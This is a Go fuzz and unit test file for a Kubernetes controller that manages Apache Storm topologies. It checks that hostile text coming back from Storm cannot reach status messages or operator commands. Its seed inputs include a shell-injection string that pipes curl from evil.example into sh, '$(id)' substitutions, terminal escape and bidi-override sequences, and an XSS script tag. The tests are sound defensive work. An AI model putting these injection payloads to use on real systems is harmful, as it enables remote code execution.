package topology_test

import (
	"cmp"
	"encoding/json"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/stormhooks/stormhooks/e2e/testkit"
	"github.com/stormhooks/stormhooks/e2e/testkit/stories"
	"github.com/stormhooks/stormhooks/pkg/internal/text"
	"github.com/stormhooks/stormhooks/pkg/metacontroller"
	"github.com/stormhooks/stormhooks/pkg/storm"
	"github.com/stormhooks/stormhooks/pkg/topology"
)

// situation is a call that asks Storm, and what Storm says in the story.
type situation struct {
	request metacontroller.Request
	view    storm.View
}

func situations(t testing.TB) (all []situation) {
	told, err := stories.Folder(".")
	must(t, err)
	for _, story := range told {
		steps, err := story.Tell()
		must(t, err)
		for _, step := range steps {
			body, err := step.World.Request(step.Finalize)
			must(t, err)
			request, err := metacontroller.Decode(body)
			must(t, err)
			all = append(all, situation{request, step.World.View()})
		}
	}
	return all
}

// says is the view with a text in every field that Nimbus fills, as pkg/nimbus hands it
// over: an id, and the values of a fingerprint, are checked by those who use them.
func (s situation) says(said string, id, mark bool) storm.View {
	view, clean := s.view, text.Said(said, 256)
	view.Scheduler = clean
	if view.Problem != "" {
		view.Problem = "Storm cannot be reached at nimbus:6627: " + clean + "."
	}
	if view.Topology == nil {
		return view
	}
	there := *view.Topology
	if id {
		there.ID = said
	}
	if mark {
		there.Fingerprint = storm.FingerprintOf(map[string]any{storm.KeyOwner: said, storm.KeyCluster: said, storm.KeyUID: said, storm.KeyRevision: said})
	} else if there.ConfKnown {
		settings := there.Fingerprint.Settings()
		settings[storm.KeyRevision], settings[storm.KeyJar], settings[storm.KeyCheap] = said, said, said
		there.Fingerprint = storm.FingerprintOf(settings)
	}
	there.Status, there.SchedStatus = clean, clean
	if !there.ConfKnown {
		there.ConfProblem = "Storm does not return the topology's conf: " + clean
	}
	there.LastError = &storm.ComponentError{Component: clean, Message: cmp.Or(clean, "an error without a text"), Host: clean, Time: 1}
	view.Topology = &there
	return view
}

// FuzzHostileStorm lets a Storm say any text in any field, in every situation of the
// stories: no status has a character that a reader cannot see, and no command in it has
// one that a shell would act on.
func FuzzHostileStorm(f *testing.F) {
	all := situations(f)
	for i, said := range []string{"wordcount-1-1000; curl -s evil.example|sh #", "$(id)", "`id`\n'", "\x1b]8;;https://evil.example\x07a", "\u202eevil\u200b", "<script>alert(1)</script>", strings.Repeat("a", 5000)} {
		f.Add(said, uint(i), true, i%2 == 0)
		f.Add(said, uint(i*31), false, i%2 == 1)
	}
	f.Fuzz(func(t *testing.T, said string, at uint, id, mark bool) {
		hold(t, all[at%uint(len(all))], said, id, mark)
	})
}

// TestHostileStorm is the seeds of FuzzHostileStorm in every situation.
func TestHostileStorm(t *testing.T) {
	for _, s := range situations(t) {
		for _, said := range []string{"wordcount-container-1-1000; curl -s evil.example|sh #", "`id`\n'\x1b[2J\u202e"} {
			hold(t, s, said, true, false)
			hold(t, s, said, false, true)
			hold(t, s, said, true, true)
		}
	}
}

// command is a command in a message, up to the end of its sentence.
var command = regexp.MustCompile(`kubectl .*?(?:; |\. |$)`)

func hold(t *testing.T, s situation, said string, id, mark bool) {
	result, err := topology.Sync(s.request, topology.Config{HelperImage: stories.HelperImage}, told{s.says(said, id, mark)}, begin.Add(time.Hour))
	if err != nil {
		t.Fatal(err)
	}
	status := result.Status
	if id && said != "" && !storm.ValidID(said) && status.StormID == said {
		t.Errorf("status.stormId is %q", said)
	}
	if strings.Contains(said, "kubectl") {
		return // it is not said by Stormhooks
	}
	body, err := json.Marshal(status)
	must(t, err)
	var fields any
	must(t, json.Unmarshal(body, &fields))
	storm.EachText(fields, func(value string) {
		if text.Clean(value) != value {
			t.Errorf("%q is not clean", value)
		}
		for _, command := range command.FindAllString(value, -1) {
			if _, err := testkit.Words(strings.TrimRight(command, ";. ")); err != nil {
				t.Errorf("%s: %v: %s", command, err, value)
			}
		}
	})
	for _, call := range result.Outcomes {
		forgets := call.Call.Verb == storm.Forget && call.Call.Mark == result.Observed.Target.Fingerprint.KeyMark()
		if !storm.ValidID(call.Call.ID) && !forgets {
			t.Errorf("called Storm for %q", call.Call.ID)
		}
	}
}

// An id that Storm cannot make belongs to no one: the status says so, nothing is called,
// and a person gets no command with it.
func TestAnImpossibleIDBelongsToNoOne(t *testing.T) {
	for _, s := range situations(t) {
		if s.view.Topology == nil || !s.view.Topology.Alive() {
			continue
		}
		s.view.Topology.ID, s.view.Listed, s.view.Fresh = "wordcount-container-1-1000;id", true, true
		result, err := topology.Sync(s.request, topology.Config{HelperImage: stories.HelperImage}, told{s.view}, begin.Add(time.Hour))
		must(t, err)
		if len(result.Outcomes) > 0 || strings.Contains(result.Status.Message, ";id") {
			t.Fatalf("%v: %s", result.Outcomes, result.Status.Message)
		}
		if seen := result.Observed; seen.Storm.Heard == topology.Absent && !result.Decision.Says.Unchanged &&
			!strings.Contains(result.Status.Message, `gives topology "`+seen.Parent.StormName()+`" an id that Storm cannot make. It is ignored.`) {
			t.Errorf("%s: %s", result.Decision.Rule, result.Status.Message)
		}
	}
}
